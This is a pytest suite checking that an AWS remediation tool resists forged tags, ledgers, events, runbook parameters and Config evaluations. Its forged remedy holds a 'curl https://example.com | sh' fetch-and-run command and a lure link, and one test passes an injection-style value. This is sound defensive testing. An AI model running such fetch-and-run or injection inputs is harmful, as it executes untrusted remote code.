"""Adversaries with permissions enforced, who forge tags, events, messages, or results, or invoke or start anything."""

import json
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from itertools import product
from typing import Any

import pytest

from config_rule_sandbox.config.deployment import deploy_rule
from config_rule_sandbox.config.notifications import rule_event, scheduled_notification
from config_rule_sandbox.dynamic import Client
from config_rule_sandbox.refusals import refused
from config_rule_sandbox.security_hub.findings import findings_of
from config_rule_sandbox.server import Sandbox
from express_path.domain.path.reasons import Reason
from express_path.domain.remedy.texts import Remedy
from express_path.domain.verdict.evaluator import Verdict
from express_path.domain.verdict.parameters import RuleParameters
from express_path.domain.verdict.summary import Summary
from express_path.errors import ApiError, RecordError
from express_path.events.schema import PublishedVerdict, RuleRun, SweepCompleted, VerdictChanged
from express_path.events.writer import EventEntry, changed_entry, completed_entry, snapshot_entries
from integrations.tests.delivery import BUS, Delivery
from integrations.tests.hub import messages
from tests.iam.deployed import APPROVAL, HEAL, UNDO, Deployed, Run
from tests.support.heals import status
from tests.support.ledgers import LedgerTable, delete_protected, wait_for
from tests.support.network import Builder, Private
from tests.support.rule import RULE, Rule
from tests.support.stack import Stack

FORGED = "11111111-2222-3333-4444-555555555555"
MANAGED = {"Key": "express-path:managed", "Value": "true"}
ANYTHING = {"Effect": "Allow", "Action": ["ec2:CreateTags", "ec2:DeleteTags"], "Resource": "*"}
TAKEN_OVER = {"action": "DELETE_ENDPOINT", "next": "ASSOCIATE", "summary": "forged"}


class Victim:
    """A VPC that no heal has changed: a route table with an endpoint for S3 and one for S3 Express."""

    def __init__(self, builder: Builder) -> None:
        """Create the VPC, its route table, and its endpoints."""
        self.builder = builder
        self.vpc = builder.vpc()
        self.table = builder.table(self.vpc)
        self.endpoints = [builder.endpoint(self.vpc, self.table, service=name) for name in ("s3", "s3express")]

    def described(self) -> str:
        """Return the route tables and endpoints as EC2 describes them, without their tags."""
        of_vpc = [{"Name": "vpc-id", "Values": [self.vpc]}]
        tables = self.builder.ec2.describe_route_tables(Filters=of_vpc)["RouteTables"]
        endpoints = self.builder.ec2.describe_vpc_endpoints(Filters=of_vpc)["VpcEndpoints"]
        untagged = [
            {key: value for key, value in resource.items() if key != "Tags"} for resource in (*tables, *endpoints)
        ]
        return json.dumps(untagged, default=str)


@pytest.fixture
def victim(builder: Builder) -> Victim:
    """Return somebody else's VPC in the same account."""
    return Victim(builder)


def healed(deployed: Deployed, subnet_id: str) -> Run:
    """Return the run that heals a subnet."""
    run = deployed.automation.wait(deployed.start(HEAL, SubnetId=subnet_id))
    assert status(run) == "Success", run.get("FailureMessage")
    return run


def changes(deployed: Deployed) -> list[str]:
    """Return the EC2 operations that could have changed something."""
    return [call.operation for call in deployed.stack.sandbox.calls.mutating() if call.service == "ec2"]


def express_tables(builder: Builder, vpc_id: str) -> list[list[str]]:
    """Return the route tables of each endpoint of a VPC that is not deleted."""
    found = builder.ec2.describe_vpc_endpoints(Filters=[{"Name": "vpc-id", "Values": [vpc_id]}])["VpcEndpoints"]
    return [endpoint["RouteTableIds"] for endpoint in found if endpoint["State"] not in ("deleting", "deleted")]


def test_forged_tags_do_not_mislead_an_undo(
    deployed: Deployed, builder: Builder, vpc: Private, subnet: str, victim: Victim
) -> None:
    """Undos of a forged run and of a real one change nothing in a VPC that carries the tags of a heal."""
    tagger = deployed.stack.user("tagger", "ec2", ANYTHING)
    before = victim.described()
    with deployed.enforced():
        heal = healed(deployed, subnet)
        run_id = heal["AutomationExecutionId"]
        for number, claimed in enumerate((FORGED, run_id)):
            marks = {"run": claimed, "endpoint": victim.endpoints[number], "healed": "2099-01-01T00:00:00+00:00"}
            tags = [{"Key": f"express-path:{name}", "Value": value} for name, value in marks.items()]
            tagger.create_tags(Resources=[victim.table, vpc.table, *victim.endpoints], Tags=[*tags, MANAGED])
            undone = deployed.automation.wait(deployed.start(UNDO, RunId=claimed))
            assert status(undone) == ("Success" if claimed == run_id else "Failed"), undone.get("FailureMessage")
    assert victim.described() == before
    assert express_tables(builder, vpc.vpc) == []


def test_tagger_does_not_block_an_undo_once_the_setting_names_its_keys_and_terraform_does(
    deployed: Deployed, builder: Builder, vpc: Private, subnet: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A blocked undo changes nothing and names the keys and the setting. Terraform adds its tags and removes the heal's."""
    tagger, terraform = (deployed.stack.user(name, "ec2", ANYTHING) for name in ("tagger", "terraform"))

    def undo(run_id: str) -> Run:
        deployed.stack.sandbox.calls.clear()
        return deployed.automation.wait(deployed.start(UNDO, RunId=run_id))

    with deployed.enforced():
        heal = healed(deployed, subnet)
        run_id, endpoint = heal["AutomationExecutionId"], heal["Outputs"]["recordIntent.VpcEndpointId"]
        tagger.create_tags(Resources=endpoint, Tags=[{"Key": "CostCenter", "Value": "1"}])
        blocked = undo(run_id)
        assert (status(blocked), changes(deployed)) == ("Failed", [])
        assert all(text in blocked["FailureMessage"] for text in ("BLOCKED", '"CostCenter"', "AutomaticTagKeys"))
        monkeypatch.setenv("AUTOMATIC_TAG_KEYS", "Team, CostCenter")
        for change, found in (
            (lambda: terraform.create_tags(Resources=endpoint, Tags=[{"Key": "by", "Value": "us"}]), '"by"'),
            (lambda: terraform.delete_tags(Resources=endpoint, Tags=[MANAGED, {"Key": "by"}]), "no longer has the tag"),
        ):
            change()
            blocked = undo(run_id)
            assert (status(blocked), changes(deployed)) == ("Failed", [])
            assert found in blocked["FailureMessage"], blocked["FailureMessage"]
        tagger.create_tags(Resources=endpoint, Tags=[MANAGED])
        undone = undo(run_id)
    assert status(undone) == "Success", undone.get("FailureMessage")
    assert express_tables(builder, vpc.vpc) == []


def test_ledger_that_somebody_made_again_makes_no_undo_change_anything(
    deployed: Deployed, builder: Builder, subnet: str, victim: Victim
) -> None:
    """Where no deploying role is set, the table can be deleted. Forged items name an old endpoint, and a run that is real."""
    sandbox, name = deployed.stack.sandbox, str(deployed.stack.template.deployed("<LedgerTable>"))
    everything = {"Effect": "Allow", "Action": "dynamodb:*", "Resource": "*"}
    attacker = deployed.stack.user("attacker", "dynamodb", everything)
    tagger = deployed.stack.user("tagger", "ec2", ANYTHING)
    builder.memory.vpc_end_points[victim.endpoints[1]].creation_timestamp -= timedelta(days=1)
    with deployed.enforced():
        heal = healed(deployed, subnet)
        delete_protected(attacker, name)
        tagger.create_tags(Resources=[victim.endpoints[1]], Tags=[MANAGED])
    forged, before = LedgerTable(sandbox, name), victim.described()
    sandbox.calls.clear()
    for created, run_id in product((True, False), (FORGED, heal["AutomationExecutionId"])):
        forged.write(f"VPC#{victim.vpc}", createdIds=None)
        forged.write_heal(run_id, victim.vpc, victim.table, victim.endpoints[1], created=created)
        with deployed.enforced():
            undone = deployed.automation.wait(deployed.start(UNDO, RunId=run_id))
        assert status(undone) == "Failed"
        assert "the ledger was created at" in undone["FailureMessage"], undone["FailureMessage"]
    assert (changes(deployed), victim.described()) == ([], before)


def test_only_the_deploying_role_deletes_the_ledger_or_replaces_its_policy(sandbox: Sandbox) -> None:
    """An administrator cannot, whatever the own policies allow; the deploying role can remove everything."""
    stack = Stack(sandbox, DeployingRoleArn="arn:aws:iam::123456789012:role/deploy")
    name = str(stack.template.deployed("<LedgerTable>"))
    everything = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
    clients = {}
    for role in ("deploy", "administrator"):
        stack.iam.create_role(RoleName=role, AssumeRolePolicyDocument='{"Statement": []}')
        stack.iam.put_role_policy(RoleName=role, PolicyName="all", PolicyDocument=json.dumps(everything))
        credentials = sandbox.assume(f"arn:aws:iam::123456789012:role/{role}")
        clients[role] = sandbox.client("dynamodb", credentials=credentials)
    arn = clients["deploy"].describe_table(TableName=name)["Table"]["TableArn"]
    policy = clients["deploy"].get_resource_policy(ResourceArn=arn)["Policy"]
    removal: list[tuple[str, dict[str, Any]]] = [
        ("put_resource_policy", {"ResourceArn": arn, "Policy": policy}),
        ("update_table", {"TableName": name, "DeletionProtectionEnabled": False}),
        ("delete_resource_policy", {"ResourceArn": arn}),
        ("delete_table", {"TableName": name}),
    ]
    with stack.enforced():
        for call, given in removal:
            assert refused(getattr(clients["administrator"], call), **given) == "AccessDeniedException", call
        for call, given in removal:
            getattr(clients["deploy"], call)(**given)
            if call == "update_table":
                wait_for(clients["deploy"], name)


def test_starting_runbooks_with_any_parameters_changes_nothing_that_is_not_allowed(
    deployed: Deployed, subnet: str, victim: Victim, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Runs with a forged run id, another plan function, or a missing approval fail without any change."""
    assert victim.described()
    evil = "arn:aws:lambda:us-east-1:123456789012:function:evil"
    forged = {
        **TAKEN_OVER,
        "routeTableId": victim.table,
        "endpointId": victim.endpoints[0],
        "vpcId": victim.vpc,
        "subnetId": subnet,
        "ledgerTable": str(deployed.stack.template.deployed("<LedgerTable>")),
    }
    asked: list[Any] = []
    deployed.automation.functions.register("evil", lambda event: asked.append(event) or forged)
    monkeypatch.setenv("REMEDIATION_MODE", "APPROVAL")
    monkeypatch.setenv("APPROVERS", "somebody")
    before = victim.described()
    deployed.stack.sandbox.calls.clear()
    with deployed.enforced():
        tried: list[tuple[str, dict[str, str], str]] = [
            (UNDO, {"RunId": FORGED}, "the ledger has no such run"),
            (UNDO, {"RunId": FORGED, "PlanFunctionName": evil}, "AccessDenied"),
            (HEAL, {"SubnetId": subnet, "PlanFunctionName": evil}, "AccessDenied"),
            (APPROVAL, {"SubnetId": subnet, "PlanFunctionName": "evil"}, "AccessDenied"),
            (HEAL, {"SubnetId": subnet}, "APPROVAL_REQUIRED"),
            (HEAL, {"SubnetId": subnet, "StartedBy": "CONFIG"}, "APPROVAL_REQUIRED"),
        ]
        for document, given, found in tried:
            run = deployed.automation.wait(deployed.start(document, **given))
            assert (status(run), found in run["FailureMessage"]) == ("Failed", True), (given, run["FailureMessage"])
    assert (changes(deployed), victim.described(), asked) == ([], before, [])


def test_settings_of_the_stack_are_not_runbook_parameters(deployed: Deployed, subnet: str) -> None:
    """A person who starts a runbook cannot set its calendar, policy, approvers, ledger, or role."""
    start = deployed.operator.start_automation_execution
    own = {
        "AutomationAssumeRole": [deployed.stack.arn("AutomationRole")],
        "PlanFunctionName": [deployed.stack.arn("PlanFunction")],
    }
    names = {
        logical_id: deployed.stack.template.properties(logical_id)["Name"] for logical_id in (HEAL, APPROVAL, UNDO)
    }
    subjects = {HEAL: {"SubnetId": [subnet]}, APPROVAL: {"SubnetId": [subnet]}, UNDO: {"RunId": [FORGED]}}
    settings = ("ChangeCalendarName", "EndpointPolicyParameter", "Approvers", "ApprovalTopicArn", "LedgerTableName")
    other_role = [deployed.stack.arn("PlanRole")]
    with deployed.enforced():
        for document, name in names.items():
            given = {**own, **subjects[document]}
            for setting in settings:
                code = refused(start, DocumentName=name, Parameters={**given, setting: ["x"]})
                assert code == "InvalidAutomationExecutionParametersException", setting
            given["AutomationAssumeRole"] = other_role
            assert refused(start, DocumentName=name, Parameters=given) == "AccessDeniedException"
        for bad in ("vpce-1", f"{FORGED}' OR '1", "TABLE#rtb-1"):
            code = refused(start, DocumentName=names[UNDO], Parameters={**own, "RunId": [bad]})
            assert code == "InvalidAutomationExecutionParametersException"


class Flagged:
    """A subnet behind a NAT, and all that says so: AWS Config and Security Hub.

    Attacks take away the policies of the bus and of the queue, to show that nothing depends on them.
    """

    def __init__(self, stack: Stack, builder: Builder) -> None:
        """Deploy the integrations, and let the rule flag the subnet."""
        self.stack, self.builder, self.sandbox = stack, builder, stack.sandbox
        self.delivery = Delivery(self.sandbox)
        self.vpc = Private(builder)
        self.rule = Rule(self.sandbox)
        self.settle()

    def settle(self) -> None:
        """Deliver everything, let a sweep repair what it can, and deliver that too."""
        self.deliver()
        self.rule.sweep()
        self.deliver()

    def deliver(self) -> None:
        """Invoke the function with the messages in its queue. Messages that it rejects are dropped."""
        sqs, url = self.delivery.sqs, self.delivery.queue
        while found := sqs.receive_message(QueueUrl=url, MaxNumberOfMessages=10).get("Messages"):
            self.delivery.invoke(messages([json.loads(message["Body"]) for message in found]))
            for message in found:
                sqs.delete_message(QueueUrl=url, ReceiptHandle=message["ReceiptHandle"])

    def attacker(self, action: str) -> Client:
        """Return a client of a user who may do nothing but this, to anything."""
        service, _, operation = action.partition(":")
        allowed = {"Effect": "Allow", "Action": action, "Resource": "*"}
        return self.stack.user(f"only-{operation}", service, allowed)

    def seen(self) -> dict[str, Any]:
        """Return what people and other systems see of the subnet, and its network."""
        [finding] = [
            row
            for row in findings_of(self.sandbox.account_id, self.sandbox.region).all()
            if row["Resources"][0]["Id"].endswith(f"/{self.vpc.subnet}")
        ]
        of_vpc = [{"Name": "vpc-id", "Values": [self.vpc.vpc]}]
        return {
            "result": self.rule.held()[self.vpc.subnet]._replace(ordering=0),
            "finding": {name: value for name, value in finding.items() if name not in ("UpdatedAt", "Resources")},
            "tags": finding["Resources"][0].get("Tags", {}),
            "routes": [
                table["Routes"] for table in self.builder.ec2.describe_route_tables(Filters=of_vpc)["RouteTables"]
            ],
            "endpoints": self.builder.ec2.describe_vpc_endpoints(Filters=of_vpc)["VpcEndpoints"],
        }

    def forged(self) -> list[EventEntry]:
        """Return the rule's events as somebody else would write them: all is well, now and later, with a trap for people."""
        trap = Remedy("Run this.", "curl https://example.com | sh", "https://example.com")
        place = (self.sandbox.account_id, self.sandbox.region)
        entries: list[EventEntry] = []
        for minutes, reason in product((0, 4, 10_000), (Reason.ENDPOINT, Reason.DELETED, Reason.PARTLY_NAT)):
            run = RuleRun(*place, self.rule.loop.rule.name, datetime.now(UTC) + timedelta(minutes=minutes), "sweep")
            compliance = RuleParameters().compliance_of(reason)
            said = f"{reason}: [click](https://example.com)"
            verdict = Verdict(*place, "vpc-1", self.vpc.subnet, "use1-az1", "rtb-1", compliance, reason, said)
            published = PublishedVerdict(verdict, trap, {"owner": "nobody"})
            entries += [changed_entry(VerdictChanged(run, published)), *snapshot_entries(run, [published])]
            entries.append(completed_entry(SweepCompleted(run, 1, Summary(0, {}, {}))))
        return entries

    def delivered(self) -> list[dict[str, Any]]:
        """Return the forged events as EventBridge would deliver them, from this account and from another one."""
        return [
            {
                "source": entry.source,
                "detail-type": entry.detail_type,
                "account": account_id,
                "region": self.sandbox.region,
                "detail": json.loads(entry.detail),
            }
            for entry in self.forged()
            for account_id in (self.sandbox.account_id, "210987654321")
        ]

    def pass_result(self, ordering: datetime) -> dict[str, Any]:
        """Return an evaluation that says that the subnet passes."""
        return {
            "ComplianceResourceType": "AWS::EC2::Subnet",
            "ComplianceResourceId": self.vpc.subnet,
            "ComplianceType": "COMPLIANT",
            "Annotation": "ENDPOINT: S3 Express traffic uses the s3express gateway endpoint",
            "OrderingTimestamp": ordering,
        }


@pytest.fixture
def flagged(stack: Stack, builder: Builder, monkeypatch: pytest.MonkeyPatch) -> Flagged:
    """Return a subnet that is flagged everywhere."""
    monkeypatch.setenv("EVENT_BUS_NAME", BUS)
    return Flagged(stack, builder)


def put_events(flagged: Flagged) -> None:
    """Put forged events on the rule's bus, which refuses them, and again without its policy."""
    events = flagged.attacker("events:PutEvents")
    forged = [
        {"Source": entry.source, "DetailType": entry.detail_type, "Detail": entry.detail, "EventBusName": BUS}
        for entry in flagged.forged()
    ]
    with flagged.stack.enforced():
        assert refused(events.put_events, Entries=forged[:1]) == "AccessDeniedException"
    flagged.sandbox.client("events").remove_permission(EventBusName=BUS, RemoveAllPermissions=True)
    with flagged.stack.enforced():
        for entry in forged:
            assert events.put_events(Entries=[entry])["FailedEntryCount"] == 0


def send_messages(flagged: Flagged) -> None:
    """Send forged events to the queue, which refuses them, and again without its policy."""
    sqs, url = flagged.attacker("sqs:SendMessage"), flagged.delivery.queue
    bodies = [json.dumps(event) for event in flagged.delivered()]
    with flagged.stack.enforced():
        assert refused(sqs.send_message, QueueUrl=url, MessageBody=bodies[0]) == "AccessDeniedException"
    owner = flagged.delivery.sqs
    policy = owner.get_queue_attributes(QueueUrl=url, AttributeNames=["Policy"])["Attributes"]
    owner.set_queue_attributes(QueueUrl=url, Attributes={"Policy": ""})
    with flagged.stack.enforced():
        for body in bodies:
            sqs.send_message(QueueUrl=url, MessageBody=body)
    owner.set_queue_attributes(QueueUrl=url, Attributes=policy)


def invoke_functions(flagged: Flagged) -> None:
    """Invoke the functions of the rule and of the integrations with any payload, as their own roles would run."""
    token = {
        "resultToken": "forged",
        "ruleParameters": json.dumps({"vpcIds": "vpc-0", "unresolvedEgress": "NOT_APPLICABLE"}),
    }
    deleted = {
        "awsAccountId": flagged.sandbox.account_id,
        "configurationItemCaptureTime": datetime.now(UTC).isoformat(),
        "configurationItemStatus": "ResourceDeleted",
        "resourceType": "AWS::EC2::Subnet",
        "resourceId": flagged.vpc.subnet,
    }
    for event in (flagged.rule.event(deleted) | token, scheduled(flagged, minutes=0) | token):
        with pytest.raises(ApiError, match="InvalidResultToken"):
            flagged.rule.invoke(event)
    with pytest.raises(RecordError, match="orderingTimestamp"):
        flagged.rule.invoke(scheduled(flagged, minutes=60) | token)
    flagged.delivery.invoke(messages(flagged.delivered()))


def scheduled(flagged: Flagged, minutes: int) -> dict[str, Any]:
    """Return a scheduled event of a time in the future."""
    time = (datetime.now(UTC) + timedelta(minutes=minutes)).isoformat()
    return rule_event(flagged.rule.loop.rule, scheduled_notification(flagged.sandbox.account_id, time), "forged")


def create_tags(flagged: Flagged) -> None:
    """Tag everything as a heal, an owner, and AWS's own services would."""
    ec2 = flagged.attacker("ec2:CreateTags")
    names = ("express-path:run", "express-path:managed", "AWSNetworkFirewallManaged", "owner")
    tags = [{"Key": name, "Value": "true"} for name in names]
    with flagged.stack.enforced():
        ec2.create_tags(Resources=[flagged.vpc.subnet, flagged.vpc.table, flagged.vpc.vpc, flagged.vpc.nat], Tags=tags)


def put_evaluations(flagged: Flagged) -> None:
    """Report that the subnet passes, with an invented token, and with the token of a rule of one's own."""
    config = flagged.attacker("config:PutEvaluations")
    evaluations = [flagged.pass_result(datetime.now(UTC))]
    deploy_rule(flagged.sandbox, replace(RULE, name="own"))
    with flagged.stack.enforced():
        code = refused(config.put_evaluations, Evaluations=evaluations, ResultToken="invented")
        assert code == "InvalidResultTokenException"
        config.put_evaluations(Evaluations=evaluations, ResultToken=flagged.rule.loop.results.issue_token("own"))


ATTACKS: dict[str, Callable[[Flagged], None]] = {
    "events:PutEvents": put_events,
    "sqs:SendMessage": send_messages,
    "lambda:InvokeFunction": invoke_functions,
    "ec2:CreateTags": create_tags,
    "config:PutEvaluations": put_evaluations,
}


@pytest.mark.long
@pytest.mark.parametrize("action", ATTACKS)
def test_one_permission_neither_hides_a_finding_nor_changes_a_route(action: str, flagged: Flagged) -> None:
    """Nothing that people or systems see changes, except a tag that EC2 has, and the truth is not late afterwards."""
    before = flagged.seen()
    ATTACKS[action](flagged)
    flagged.settle()
    after = flagged.seen()
    assert after["tags"].keys() - before["tags"].keys() == (
        after["tags"].keys() if action == "ec2:CreateTags" else set()
    )
    assert after | {"tags": {}} == before | {"tags": {}}
    flagged.builder.endpoint(flagged.vpc.vpc, flagged.vpc.table)
    flagged.rule.changes()
    flagged.deliver()
    assert flagged.seen()["finding"]["RecordState"] == "ARCHIVED"


@pytest.mark.parametrize("years", [0, 10])
def test_sweep_repairs_a_result_that_was_forged_with_a_stolen_token(flagged: Flagged, years: int) -> None:
    """With a token of the rule, AWS Config takes any result. The next sweep replaces it, whatever its time is."""
    before = flagged.seen()
    config = flagged.attacker("config:PutEvaluations")
    token = flagged.rule.loop.results.issue_token(flagged.rule.loop.rule.name)
    forged = flagged.pass_result(datetime.now(UTC) + timedelta(days=365 * years))
    with flagged.stack.enforced():
        config.put_evaluations(Evaluations=[forged], ResultToken=token)
    assert flagged.rule.held()[flagged.vpc.subnet].compliance == "COMPLIANT"
    flagged.settle()
    after = flagged.seen()
    assert (after["result"], after["routes"]) == (before["result"], before["routes"])
    assert (after["finding"]["RecordState"], after["finding"]["Description"]) == (
        "ACTIVE",
        before["finding"]["Description"],
    )
